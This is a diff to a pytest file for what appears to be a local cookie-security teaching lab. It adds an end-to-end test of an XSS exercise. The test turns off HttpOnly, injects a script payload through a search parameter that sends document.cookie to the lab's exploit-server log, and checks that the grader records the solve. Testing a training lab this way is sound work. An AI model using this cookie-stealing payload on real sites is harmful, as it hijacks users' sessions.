@@ -2,6 +2,7 @@
 second site's cross-site link, and mitmweb's flow list readable at 1400x900."""
 
 import json
+from urllib.parse import quote
 
 import pytest
 from engines import SHOTS, ChromiumTab, chromium_session
@@ -31,9 +32,14 @@ def tab(chromium):
     tab.close()
 
 
-def captured(lab) -> list[dict]:
+def capture_lines(lab) -> list[dict]:
     out = lab.compose("exec", "-T", "proxy", "cat", "/captures/cookies.jsonl").stdout
     return [json.loads(line) for line in out.splitlines()]
+
+
+def captured(lab) -> list[dict]:
+    """The capture's flow records (a line of kind exploit_log records a step the exploit server's log met)."""
+    return [record for record in capture_lines(lab) if "kind" not in record]
 
 
 def test_the_second_sites_link_carries_the_lax_cookie_through_the_proxy(lab, seed_up, tab):
@@ -69,3 +75,27 @@ def test_mitmwebs_flow_list_shows_the_seeds_cookie_events_in_full(lab, seed_up, 
     )
     tab.screenshot(SHOTS / "compose-mitmweb-flow-list.png")
     assert cut == []
+
+
+def test_sheet_12_end_to_end_the_session_leaves_through_the_site_and_the_proxy_grades_it(lab, seed_up, tab):
+    """The XSS lab on the real containers: the app's state volume, the site's exploit volume, which the
+    proxy's grader reads, and the learner's browser as the only path between the site and the app."""
+    app, site = f"http://127.0.0.1:{lab.proxy_port}", f"http://site.localhost:{lab.site_port}"
+    tab.goto(app + "/xss/")
+    if "<strong>on</strong>" in tab.js("document.getElementById('switch-httponly').innerHTML"):
+        tab.click("#flip-httponly")
+    tab.click("#login")
+    payload = f"<script>new Image().src='{site}/log/steal?c='+encodeURIComponent(document.cookie)</script>"
+    tab.goto(f"{app}/xss/search?q={quote(payload)}")
+    tab.goto(site + "/exploit-server/log")
+    assert "lab_session" in tab.text("main")
+    record = wait_until(
+        lambda: next((r for r in capture_lines(lab) if "12-session-to-the-log" in r.get("solved", [])), None),
+        15,
+        "the exploit server's solve in the capture file",
+    )
+    assert record["kind"] == "exploit_log" and record["exploit_request"]["path"] == "/log/steal"
+    page = next(r for r in captured(lab) if r["flow_id"] == record["flow_id"])
+    assert page["path"].startswith("/xss/search?q=")
+    logs = lab.compose("logs", "proxy").stdout
+    assert "reached the exploit server's log" in logs and "Cookie Lab: solved 12-session-to-the-log" in logs
